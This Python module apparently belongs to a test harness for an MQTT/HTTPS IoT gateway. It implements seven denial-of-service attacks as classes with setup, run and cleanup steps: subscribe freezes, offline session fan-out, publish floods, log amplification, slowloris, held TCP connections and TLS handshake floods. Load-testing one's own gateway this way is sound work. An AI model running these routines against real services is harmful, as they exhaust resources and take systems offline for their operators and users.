"""The resource attacks, each from one device certificate (or none), each bounded in time.

Each attack is a class with `setup()` (fill what the attack needs: retained messages,
offline sessions, a declared value; not timed as the attack), `run(deadline)` (the attack
itself, returning by `deadline`), and `cleanup()` (leave the gateway as found: retained
cleared, persistent sessions erased by reconnecting clean). `acked` counts the payload bytes
the gateway accepted from the attacker (PUBACKed; for QoS 0, written to the socket), the
yardstick of "data grows in proportion to what the attacker was allowed to store".

Ids and topics are fixed (`res-fanout-<i>`, `res/fill/<i>`), so `--cleanup-only` in another
process finds what an earlier `--no-cleanup` run left.
"""

from __future__ import annotations

import contextlib
import json
import multiprocessing
import socket
import ssl
import threading
import time
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass
from pathlib import Path

from . import rawmqtt
from .bundle import Bundle
from .errors import GatewayError
from .probe import Probe

MAX_SUBSCRIBE = 256 * 1024  # the gateway's documented packet limit


@dataclass
class Sizes:
    retained: int = 10_000
    filters: int = 1_000
    sessions: int = 1_000
    fanout_publishes: int = 10
    fanout_bytes: int = 100_000
    readings: int = 1_000
    slow_http: int = 300
    pending: int = 2_000
    flooders: int = 2
    source: str = "127.0.0.2"


class Attack:
    name = ""
    what = ""

    def __init__(self, attacker: Bundle, host: str, port: int, sizes: Sizes) -> None:
        self.attacker, self.host, self.port, self.sizes = attacker, host, port, sizes
        self.acked = 0
        self.notes: list[str] = []
        self.stop = threading.Event()

    def probe(self, client_id: str, clean: bool = True) -> Probe:
        p = Probe(self.host, self.port, ca=self.attacker.ca, cert=self.attacker.cert,
                  key=self.attacker.key, client_id=client_id, clean_session=clean)
        admitted, what = p.connect()
        if not admitted:
            p.close()
            raise GatewayError(f"the attacker's bundle was refused: {what}")
        return p

    def publish_many(self, probe: Probe, items: list[tuple[str, bytes, bool]],
                     wait: float = 120.0) -> int:
        """QoS 1 publishes, pipelined; returns payload bytes acknowledged within `wait`."""
        infos = [(probe.client.publish(t, p, qos=1, retain=r), len(p)) for t, p, r in items]
        deadline = time.monotonic() + wait
        done = 0
        for info, size in infos:
            info.wait_for_publish(max(0.0, deadline - time.monotonic()))
            if info.is_published():
                done += size
        return done

    def setup(self) -> None:
        pass

    def run(self, deadline: float) -> None:
        raise NotImplementedError

    def cleanup(self) -> None:
        pass


def _sleep_until(deadline: float, stop: threading.Event | None = None) -> None:
    left = deadline - time.monotonic()
    if left > 0:
        (stop or threading.Event()).wait(left)


class SubscribeFreeze(Attack):
    name = "subscribe-freeze"
    what = "retained messages, then SUBSCRIBEs of `#` filters"

    def _fill(self, payload: bytes) -> int:
        p = self.probe("res-fill")
        try:
            return self.publish_many(p, [(f"res/fill/{i}", payload, True)
                                         for i in range(self.sizes.retained)])
        finally:
            p.close()

    def setup(self) -> None:
        self.acked += self._fill(b"r" * 32)

    def run(self, deadline: float) -> None:
        # One SUBSCRIBE per connection, never read: what it costs is the gateway's, not ours.
        filters = ["#"] * self.sizes.filters
        held: list[ssl.SSLSocket] = []
        sent = 0
        try:
            while time.monotonic() < deadline:
                try:
                    sock = rawmqtt.open_session(self.attacker, self.host, self.port,
                                                f"res-sub-{sent}", timeout=5.0)
                    sock.sendall(rawmqtt.subscribe_packet(1, filters))
                    held.append(sock)
                    sent += 1
                except (GatewayError, OSError) as exc:
                    self.notes.append(f"subscribe {sent + 1}: {exc}")
                    break
                _sleep_until(min(deadline, time.monotonic() + 2.0))
        finally:
            for s in held:
                with contextlib.suppress(OSError):
                    s.close()
        self.notes.insert(0, f"{self.sizes.retained} retained, {sent} SUBSCRIBE x "
                          f"{len(filters)} `#`")

    def cleanup(self) -> None:
        self._fill(b"")


class OfflineFanout(Attack):
    name = "offline-fanout"
    what = "persistent `#` sessions offline, then large QoS 1 publishes"

    def _each_session(self, clean: bool) -> int:
        def one(i: int) -> bool:
            try:
                p = self.probe(f"res-fanout-{i}", clean=clean)
            except GatewayError:
                return False
            try:
                if not clean:
                    p.subscribe("#")
                return True
            finally:
                p.close()
        with ThreadPoolExecutor(16) as pool:
            return sum(pool.map(one, range(self.sizes.sessions)))

    def setup(self) -> None:
        # The publisher connects first: past the gateway's sessions-per-network limit it is
        # the offline sessions that are refused (and counted), not the attack itself.
        self.publisher = self.probe("res-fanout-pub")
        made = self._each_session(clean=False)
        self.notes.append(f"{made}/{self.sizes.sessions} offline `#` sessions")

    def run(self, deadline: float) -> None:
        p = self.publisher
        try:
            body = b"x" * self.sizes.fanout_bytes
            items = [(f"res/fanout/{i}", body, i % 2 == 0)
                     for i in range(self.sizes.fanout_publishes)]
            self.acked += self.publish_many(p, items, wait=max(1.0, deadline - time.monotonic()))
        finally:
            p.close()
        self.notes.append(f"{self.sizes.fanout_publishes} x {self.sizes.fanout_bytes} B "
                          f"(half retained), {self.acked} B acknowledged")
        _sleep_until(deadline)

    def cleanup(self) -> None:
        self._each_session(clean=True)
        p = self.probe("res-fanout-pub")
        try:
            self.publish_many(p, [(f"res/fanout/{i}", b"", True)
                                  for i in range(self.sizes.fanout_publishes)])
        finally:
            p.close()


class WriterStarvation(Attack):
    name = "writer-starvation"
    what = "QoS 0 batch reports, 1,000 readings per publish"

    MODEL = json.dumps({"devices": [{"name": "flood", "values": [
        {"name": "x", "permission": "r", "number": {"min": -1e9, "max": 1e9}}]}]}).encode()

    def setup(self) -> None:
        p = self.probe("res-flood-model")
        try:
            if p.publish("model", self.MODEL) != "acknowledged":
                raise GatewayError("the attacker's model was not acknowledged")
        finally:
            p.close()

    def run(self, deadline: float) -> None:
        batch = json.dumps({"reports": [{"data": i % 100}
                                        for i in range(self.sizes.readings)]}).encode()
        packet = rawmqtt.publish_packet("report/flood/x", batch)
        sock = rawmqtt.open_session(self.attacker, self.host, self.port, "res-flood")
        sock.settimeout(1.0)
        sent = 0
        try:
            while time.monotonic() < deadline:
                try:
                    sock.sendall(packet)  # blocking: paced by TCP backpressure alone
                except TimeoutError:
                    continue  # a partial write: counted as not accepted
                except OSError as exc:
                    self.notes.append(f"closed by the gateway: {exc}")
                    break
                sent += 1
        finally:
            sock.close()
        self.acked += sent * len(batch)
        self.notes.insert(0, f"{sent} batches ({sent * self.sizes.readings} readings) written")


class LogAmplification(Attack):
    name = "log-amplification"
    what = "SUBSCRIBEs full of refused filters"

    def run(self, deadline: float) -> None:
        def refused(i: int) -> str:
            return f"$SYS/{i}/#" if i % 2 else f"+/../x{i}/#"
        filters = rawmqtt.filters_fitting(refused, MAX_SUBSCRIBE)
        packet = rawmqtt.subscribe_packet(1, filters)
        sent, sock = 0, None
        try:
            while time.monotonic() < deadline:
                if sock is None:
                    sock = rawmqtt.open_session(self.attacker, self.host, self.port,
                                                "res-log", timeout=10.0)
                try:
                    sock.sendall(packet)
                    while rawmqtt.read_packet(sock)[0] != 0x90:
                        pass  # anything before the SUBACK (none expected)
                    sent += 1
                except (OSError, ConnectionError) as exc:
                    self.notes.append(f"closed after {sent}: {exc}")
                    sock.close()
                    sock = None
        finally:
            if sock is not None:
                sock.close()
        self.notes.insert(0, f"{sent} SUBSCRIBE x {len(filters)} refused filters "
                          f"({sent * len(packet)} B)")


def _bound(source: str, timeout: float) -> socket.socket:
    s = socket.socket()
    s.settimeout(timeout)
    with contextlib.suppress(OSError):
        s.bind((source, 0))  # 127.0.0.2 where the host has it: not the victim's address
    return s


class HttpSlowloris(Attack):
    name = "http-slowloris"
    what = "slow unauthenticated TLS connections to the HTTPS API"

    def __init__(self, *a, http: tuple[str, int] | None = None, operator: Path | None = None,
                 **kw) -> None:
        super().__init__(*a, **kw)
        self.http, self.operator = http, operator
        self.operator_ok = 0
        self.operator_tries = 0
        self.operator_times: list[float] = []

    def _slow(self, deadline: float, opened: list[int]) -> None:
        assert self.http is not None
        try:
            s = _bound(self.sizes.source, 10.0)
            s.connect(self.http)
            tls = rawmqtt.tls_context(None, self.attacker.ca).wrap_socket(s)
            tls.sendall(b"GET /healthz HTTP/1.1\r\n")
            opened.append(1)
            while not self.stop.wait(min(5.0, max(0.0, deadline - time.monotonic()))):
                if time.monotonic() >= deadline:
                    break
                tls.sendall(b"X-a: b\r\n")
            tls.close()
        except (OSError, ssl.SSLError):
            pass  # refused or cut: that is the gateway defending itself

    def _operator_request(self) -> None:
        assert self.http is not None and self.operator is not None
        ctx = ssl.create_default_context(cafile=str(self.operator / "ca.crt"))
        ctx.check_hostname = False
        ctx.load_cert_chain(str(self.operator / "operator.crt"),
                            str(self.operator / "operator.key"))
        self.operator_tries += 1
        start = time.monotonic()
        try:
            with socket.create_connection(self.http, timeout=10.0) as s, \
                    ctx.wrap_socket(s) as tls:
                tls.sendall(b"GET /api/v1/networks HTTP/1.1\r\nHost: gateway\r\n"
                            b"Connection: close\r\n\r\n")
                if tls.recv(12).startswith(b"HTTP/1.1 200"):
                    self.operator_ok += 1
                    self.operator_times.append(time.monotonic() - start)
        except (OSError, ssl.SSLError):
            pass

    def run(self, deadline: float) -> None:
        if self.http is None:
            self.notes.append("not tried: needs --http")
            return
        opened: list[int] = []
        threads = [threading.Thread(target=self._slow, args=(deadline, opened), daemon=True)
                   for _ in range(self.sizes.slow_http)]
        for t in threads:
            t.start()
        while time.monotonic() < deadline:
            if self.operator is not None:
                self._operator_request()
            _sleep_until(min(deadline, time.monotonic() + 0.5))
        self.stop.set()
        for t in threads:
            t.join(15)
        self.notes.insert(0, f"{len(opened)}/{self.sizes.slow_http} slow connections held")


class PendingHandshakes(Attack):
    name = "pending-handshakes"
    what = "TCP connections to the MQTT port that never start TLS"

    def run(self, deadline: float) -> None:
        # In a process of its own: the victim's paho loop uses select(), which cannot watch a
        # file descriptor past 1024, so 2,000 sockets held here would break the victim's
        # reconnects (a harness artefact, not the gateway's doing).
        spawn = multiprocessing.get_context("spawn")
        with spawn.Pool(1) as pool:
            held, failed, alive = pool.apply(_hold_pending, (
                self.host, self.port, self.sizes.source, self.sizes.pending,
                deadline - time.monotonic()))
        self.notes.append(f"{held} connected ({failed} refused), {alive} still open at "
                          "the end")


def _hold_pending(host: str, port: int, source: str, count: int,
                  seconds: float) -> tuple[int, int, int]:
    """Open up to `count` TCP connections from `source`, hold them `seconds`, and return
    (held, refused, still open at the end)."""
    deadline = time.monotonic() + seconds
    held: list[socket.socket] = []
    failed = alive = 0
    try:
        for _ in range(count):
            if time.monotonic() >= deadline:
                break
            s = _bound(source, 2.0)
            try:
                s.connect((host, port))
                held.append(s)
            except OSError:
                s.close()
                failed += 1
        _sleep_until(deadline)
        for s in held:
            s.setblocking(False)
            try:
                alive += s.recv(1) != b""
            except BlockingIOError:
                alive += 1
            except OSError:
                pass
    finally:
        for s in held:
            s.close()
    return len(held), failed, alive


class TlsFlood(Attack):
    name = "tls-flood"
    what = "TLS handshakes without a certificate, back to back, on the MQTT and HTTPS ports"

    def __init__(self, *a, http: tuple[str, int] | None = None, **kw) -> None:
        super().__init__(*a, **kw)
        self.http = http

    def run(self, deadline: float) -> None:
        # Processes of their own, like pending-handshakes: handshakes are CPU work, and in
        # this process they would take the victim's interpreter lock, not the gateway's CPU.
        targets = [(self.host, self.port)] + ([self.http] if self.http is not None else [])
        spawn = multiprocessing.get_context("spawn")
        with spawn.Pool(self.sizes.flooders) as pool:
            start = time.monotonic()
            counts = pool.starmap(_flood, [
                (targets, str(self.attacker.ca), self.sizes.source,
                 deadline - time.monotonic())] * self.sizes.flooders)
            seconds = max(1.0, time.monotonic() - start)
        for (host, port), label in zip(targets, ("MQTT", "HTTPS"), strict=False):
            answered = sum(c[(host, port)][0] for c in counts)
            cut = sum(c[(host, port)][1] for c in counts)
            self.notes.append(f"{label}: {answered} handshakes answered, {cut} cut before "
                              f"TLS ({(answered + cut) / seconds:.0f} tries/s)")


def _flood(targets: list[tuple[str, int]], ca: str, source: str,
           seconds: float) -> dict[tuple[str, int], list[int]]:
    """Handshake with each target in turn, without a client certificate, until `seconds`
    pass; per target [handshakes the server answered (its TLS reply came), attempts cut
    before any TLS reply (closed at accept: a rate limit)]."""
    deadline = time.monotonic() + seconds
    ctx = rawmqtt.tls_context(None, Path(ca))
    counts = {target: [0, 0] for target in targets}
    while time.monotonic() < deadline:
        for target in targets:
            s = _bound(source, 5.0)
            try:
                s.connect(target)
                with ctx.wrap_socket(s):
                    pass
                counts[target][0] += 1
            except (ssl.SSLEOFError, ssl.SSLZeroReturnError, ConnectionError, TimeoutError):
                counts[target][1] += 1
            except ssl.SSLError:
                counts[target][0] += 1  # an alert: the server did the handshake's work
            except OSError:
                counts[target][1] += 1
            finally:
                s.close()
    return counts


ATTACKS: dict[str, type[Attack]] = {a.name: a for a in (
    SubscribeFreeze, OfflineFanout, WriterStarvation, LogAmplification, HttpSlowloris,
    PendingHandshakes, TlsFlood)}

